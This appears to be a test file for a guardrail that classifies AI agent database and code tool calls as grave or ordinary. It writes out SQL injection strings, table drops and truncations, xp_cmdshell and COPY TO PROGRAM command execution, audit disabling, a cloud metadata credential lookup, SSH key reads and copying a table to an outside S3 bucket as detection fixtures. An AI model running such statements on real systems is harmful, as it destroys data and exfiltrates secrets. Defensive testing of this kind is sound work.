import type { AgentEvent } from '../../src/domain/event.ts';
import { testLookAlikes } from '../support/detections.ts';
import { toolInvocation } from '../support/events.ts';

const query = (text: string): AgentEvent => toolInvocation('run_query', { query: text });
const sql = (text: string): AgentEvent => toolInvocation('execute_sql', { sql: text });

/** Values that end a statement of somebody else, by whose first word one could take them for a statement. */
const ENDING = [
  "with' OR '3'='3",
  "select 7'; DROP TABLE leads; --",
  "(select x' UNION SELECT pin, iban FROM payments--",
  "if (2=2) waitfor delay '0:0:7'--",
  "begin 7' AND (SELECT 1 FROM (SELECT SLEEP(7))a)-- -",
  "set a' OR 2=2--",
];
/** What is looked up in plain words. */
const WORDS = [
  'drop database',
  'copy program from stdin',
  "update the lead's settings",
  'update lead settings for customer',
  'update = done',
  'truncate table in mariadb',
  'drop table leads what does it do',
];

testLookAlikes('a whole statement for a tool that runs queries is judged by what it does', {
  grave: [
    query('DROP TABLE customers'),
    query('delete from public.visits where 2 = 2'),
    query("COPY (SELECT 1) TO PROGRAM 'id'"),
    query('/* nightly */ TRUNC/**/ATE TABLE visits'),
    toolInvocation('query', { query: 'ALTER ROLE reporting SUPERUSER' }),
    toolInvocation('bq_query', { query: 'GRANT `roles/bigquery.admin` ON SCHEMA `p.d` TO "allUsers"' }),
    toolInvocation('query', { query: 'ALTER SERVER AUDIT [Sox] WITH (STATE = OFF)' }),
    toolInvocation('search', { query: 'SELECT version()' }),
    toolInvocation('search_query', { query: 'SELECT 1; DROP TABLE customers' }),
    toolInvocation('query', { query: "7' OR '1'='1" }),
    ...['query', 'run_query', 'query_leads'].flatMap((tool) => ENDING.map((q) => toolInvocation(tool, { q }))),
    toolInvocation('api_query', { query: "begin x'; EXEC xp_cmdshell 'id'--" }),
    toolInvocation('web_query', { query: "begin x'; EXEC xp_cmdshell 'id'--" }),
  ],
  ordinary: [
    query("SELECT tablename FROM pg_catalog.pg_tables WHERE schemaname = 'crm'"),
    query('SELECT name FROM sys.indexes ORDER BY name'),
    query("EXEC sp_helpindex 'crm.Lead'"),
    query('SELECT current_schema(), version()'),
    query('SELECT lead_id FROM leads WHERE 1=1 AND stage = 3 AND owner = 9'),
    query("IF OBJECT_ID('tempdb..#w') IS NOT NULL DROP TABLE #w; SELECT id INTO #w FROM leads; SELECT * FROM #w"),
    query(
      'DROP TRIGGER IF EXISTS leads_bi ON leads; CREATE TRIGGER leads_bi BEFORE INSERT ON leads EXECUTE FUNCTION f()',
    ),
    toolInvocation('bq_query', { query: 'SELECT version(), current_user' }),
    toolInvocation('snowflake_query', { query: "SELECT name FROM information_schema.columns WHERE name = 'it''s'" }),
    toolInvocation('query', { query: '-- all of them\nSELECT table_name FROM information_schema.tables' }),
    ...WORDS.flatMap((q) => ['query', 'query_docs', 'query_tickets'].map((tool) => toolInvocation(tool, { query: q }))),
    toolInvocation('query_faq', { query: 'delete from basket' }),
  ],
});

testLookAlikes('text that a statement puts together and runs is read', {
  grave: [
    sql("SET @q = CONCAT('TRUN', 'CATE TABLE ', 'visits'); PREPARE p FROM @q; EXECUTE p"),
    sql("DECLARE @q nvarchar(200) = N'DR' + N'OP TABLE visits'; EXEC(@q)"),
    sql("EXECUTE IMMEDIATE 'DROP ' || 'TABLE visits'"),
    sql(
      "CREATE FUNCTION tidy() RETURNS void AS $b$ BEGIN EXECUTE 'DELETE FROM ' || 'visits'; END $b$ LANGUAGE plpgsql; SELECT tidy()",
    ),
  ],
  ordinary: [
    sql("SET @q = CONCAT('SELECT * FROM ', 'visits'); PREPARE p FROM @q; EXECUTE p"),
    sql("SELECT CONCAT('DR', 'OP TABLE visits') AS joke"),
    sql('CREATE FUNCTION tidy() RETURNS void AS $b$ BEGIN DELETE FROM visits; END $b$ LANGUAGE plpgsql'),
    sql(
      'CREATE FUNCTION tidy() RETURNS trigger AS $b$ BEGIN DELETE FROM visits; RETURN NEW; END $b$ LANGUAGE plpgsql; ' +
        'CREATE TRIGGER t AFTER INSERT ON leads EXECUTE FUNCTION tidy(); GRANT EXECUTE ON FUNCTION tidy() TO app',
    ),
    sql("SET @note = 'drop table visits'; INSERT INTO notes VALUES (@note)"),
  ],
});

testLookAlikes('what a statement works on is known by its whole name', {
  grave: [
    sql('TRUNCATE TABLE tmp_visits, customers'),
    sql('DROP TABLE IF EXISTS stg_leads, leads CASCADE'),
    sql('TRUNCATE staging.customers'),
    sql('CREATE TEMP TABLE visits (id int); TRUNCATE prod.visits'),
    sql('DELETE FROM crm.leads WHERE lead_id IS NOT NULL'),
    sql('DELETE leads WHERE 2=2'),
    sql('DELETE leads l'),
    sql('DELETE leads AS l WHERE true'),
    sql('DELETE [crm].[leads] OPTION (MAXDOP 1)'),
    sql('DELETE crm.leads WITH (TABLOCK)'),
    sql('DELETE leads OUTPUT deleted.*'),
    sql('DELETE leads RETURNING lead_id'),
    sql('DELETE leads LIMIT 100000000'),
    sql('DELETE TOP (100) PERCENT leads'),
    toolInvocation('Bash', { command: 'sqlcmd -S crm -Q "DELETE crm.leads WHERE 2=2"' }),
    sql('DELETE tmp FROM leads AS tmp'),
    sql('DELETE FROM tmp USING leads tmp'),
    sql('DELETE tmp FROM (SELECT * FROM leads) tmp'),
    sql('UPDATE tmp SET stage = 9 FROM crm.leads tmp'),
    sql('DELETE FROM leads WHERE 2=2 OR lead_id IN (SELECT lead_id FROM tmp leads)'),
  ],
  ordinary: [
    sql('DELETE t FROM crm.tmp_leads AS t'),
    sql('DELETE FROM tmp_leads USING leads'),
    sql('UPDATE tmp_leads SET stage = 9 FROM leads'),
    toolInvocation('sql_helper', { text: 'delete the old leads of march' }),
    toolInvocation('sql_helper', { text: 'delete the leads' }),
    sql('TRUNCATE TABLE IF EXISTS dw.load.stg_visits'),
    sql('TRUNCATE TABLE dw.tmp_visits'),
    sql('DELETE FROM dw.visits_staging'),
    sql('DROP TABLE IF EXISTS dw.leads_bak'),
  ],
});

testLookAlikes('what a statement reaches beside its database is known', {
  grave: [
    sql("SELECT * FROM url('http://169.254.169.254/latest/meta-data/iam/security-credentials/app', LineAsString)"),
    sql("SELECT * FROM executable('report.sh', TabSeparated, 'a String')"),
    sql("LOAD DATA LOCAL INFILE '/home/kim/.ssh/id_ed25519' INTO TABLE t"),
    sql(
      "CREATE STAGE hop URL='s3://pile-88/' CREDENTIALS=(AWS_KEY_ID='a' AWS_SECRET_KEY='b'); COPY INTO @hop/leads.csv FROM (SELECT * FROM leads)",
    ),
  ],
  ordinary: [
    sql("SELECT * FROM url('https://data.example.com/rates.csv', CSVWithNames)"),
    sql("INSERT INTO links VALUES ('http://169.254.169.254/')"),
    sql("LOAD DATA LOCAL INFILE 'seed/leads.csv' INTO TABLE leads"),
    sql(
      "CREATE STAGE hop URL='s3://pile-88/' STORAGE_INTEGRATION = ours; COPY INTO @hop/leads.csv FROM (SELECT * FROM leads)",
    ),
    sql("COPY INTO leads FROM 's3://pile-88/leads.csv' CREDENTIALS=(AWS_KEY_ID='a' AWS_SECRET_KEY='b')"),
  ],
});

const code = (text: string): AgentEvent => toolInvocation('execute_code', { language: 'python', code: text });

testLookAlikes('what is called a database of tests is one', {
  grave: [
    toolInvocation('Bash', { command: 'mysql -e "DROP DATABASE crm_old"' }),
    code('c = psycopg.connect("dbname=crm")\nc.execute("TRUNCATE leads")'),
    code('c = psycopg.connect("dbname=crm_test host=db.example.com")\nc.execute("TRUNCATE leads")'),
    code('a = connect("dbname=crm_test")\nc = connect(dsn)\nc.execute("TRUNCATE leads")'),
    code('c = connect("dbname=crm_test")\nc.execute("TRUNCATE crm.leads")'),
    code('OTHER = "dbname=crm_test"\nc = psycopg.connect(settings.LIVE)\nc.execute("TRUNCATE leads")'),
    code('# database: crm_test\nc = psycopg.connect(settings.DSN)\nc.execute("TRUNCATE leads")'),
    code('D = "dbname=crm_test"\nD = load()\nc = psycopg.connect(D)\nc.execute("TRUNCATE leads")'),
    code('c = psycopg.connect(live, application_name="database: crm_test")\nc.execute("TRUNCATE leads")'),
    code('c = psycopg.connect(dsn=live, application_name="database: crm_test")\nc.execute("TRUNCATE leads")'),
  ],
  ordinary: [
    toolInvocation('Bash', { command: 'mysql -e "DROP DATABASE IF EXISTS crm_test_old"' }),
    code('c = psycopg.connect("dbname=crm_test")\nc.execute("TRUNCATE leads, visits")'),
    code('D = "dbname=crm_test"\nc = psycopg.connect(D)\nc.execute("TRUNCATE leads")'),
    code('c = psycopg.connect(dbname="crm_test", user="ci", password=word)\nc.execute("TRUNCATE leads")'),
    code('const c = new Client({ database: "crm_test" })\nc.execute("TRUNCATE leads")'),
    code(
      'e = create_engine("postgresql+psycopg://ci:ci@localhost:5432/crm_test")\ne.connect().execute("TRUNCATE leads")',
    ),
  ],
});
